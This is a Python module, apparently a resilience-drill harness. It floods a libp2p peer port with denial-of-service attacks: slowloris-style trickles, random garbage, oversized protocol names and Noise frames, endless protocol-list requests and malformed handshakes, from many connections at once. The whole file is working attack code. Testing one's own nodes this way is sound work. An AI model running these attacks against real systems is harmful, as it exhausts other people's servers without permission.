"""A client of the peer port that means harm.

    python3 -m drill.attacks NAME ADDRESS PORT [OWN_ADDRESS...]

It attacks until SIGTERM, from its own addresses in turn, and then says in JSON what it did. None of
this needs a key: it is what anybody can do who reaches the port.
"""

import asyncio
import collections
import itertools
import json
import os
import resource
import signal
import sys

MULTISTREAM = b"\x13/multistream/1.0.0\n"
NOISE = b"\x07/noise\n"
# The longest frame of Noise: 65,535 bytes after their length.
NOISE_FRAME = b"\xff\xff" + bytes(65_535)
PIECE = 65_536


class Attacker:
    def __init__(self, address, port, own):
        self.target = (address, port)
        self.own = itertools.cycle([(address, 0) for address in own] or [None])
        self.counts = collections.Counter()
        self.begun = False

    async def connection(self):
        connecting = asyncio.open_connection(*self.target, local_addr=next(self.own))
        # Connections that are not answered are not waited for.
        reader, writer = await asyncio.wait_for(connecting, 2)
        self.counts["connections"] += 1
        return reader, writer

    async def again_and_again(self, act):
        """One connection after the other, as fast as they are closed."""
        while True:
            try:
                reader, writer = await self.connection()
                self.begin()
                try:
                    await act(reader, writer)
                finally:
                    writer.transport.abort()
            except (OSError, TimeoutError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                self.counts["refused or closed"] += 1
                self.begin()
                await asyncio.sleep(0.05)

    def begin(self):
        """Says that the attack goes on from here."""
        if not self.begun:
            self.begun = True
            print("begun", flush=True)

    async def write(self, writer, data):
        writer.write(data)
        await writer.drain()
        self.counts["bytes"] += len(data)

    async def silent(self, reader, _):
        """Says nothing."""
        await reader.read()

    async def slow(self, _, writer):
        """Says the right thing, a byte at a time."""
        for byte in itertools.cycle(MULTISTREAM + NOISE + NOISE_FRAME):
            await self.write(writer, bytes([byte]))
            await asyncio.sleep(0.5)

    async def garbage(self, _, writer):
        """Says what is neither libp2p nor anything else."""
        while True:
            await self.write(writer, os.urandom(PIECE))

    async def deaf(self, _, writer):
        """Greets without end, and never reads an answer."""
        writer.transport.pause_reading()
        await self.write(writer, MULTISTREAM)
        while True:
            # The list of protocols is asked for: the longest answer to the shortest question.
            await self.write(writer, b"\x03ls\n" * 1_000)

    async def giant_name(self, _, writer):
        """Announces the name of a protocol of 2^62 bytes, and sends it."""
        await self.write(writer, MULTISTREAM + b"\xff" * 8 + b"\x3f")
        while True:
            await self.write(writer, bytes(PIECE))

    async def giant_noise(self, _, writer):
        """Begins a handshake with frames as large as they can be, one after the other."""
        await self.write(writer, MULTISTREAM + NOISE)
        while True:
            await self.write(writer, NOISE_FRAME)

    async def wrong_noise(self, reader, writer):
        """Does the first step of a handshake well, and the last one not."""
        await self.write(writer, MULTISTREAM + NOISE + b"\x00\x20" + os.urandom(32))
        await reader.readexactly(len(MULTISTREAM) + len(NOISE) + 2)
        await self.write(writer, b"\x00\xa8" + os.urandom(168))
        await reader.read()


# Name: acts, and connections at the same time for each.
ATTACKS = {
    "silent": (["silent"], 2_000),
    "half-open": (["silent"], 2_000),
    "slow": (["slow"], 500),
    "garbage": (["garbage"], 50),
    "giant": (["giant_name", "giant_noise", "deaf"], 20),
    "handshakes": (["wrong_noise"], 50),
    "crowd": (["silent", "slow", "wrong_noise"], 300),
}


async def attack(attacker, name):
    acts, count = ATTACKS[name]
    tasks = [
        asyncio.create_task(attacker.again_and_again(getattr(attacker, act)))
        for act in acts
        for _ in range(count)
    ]
    stopped = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopped.set)
    await stopped.wait()
    for task in tasks:
        task.cancel()


def main():
    name, address, port = sys.argv[1:4]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(address, int(port), sys.argv[4:])
    asyncio.run(attack(attacker, name))
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main()
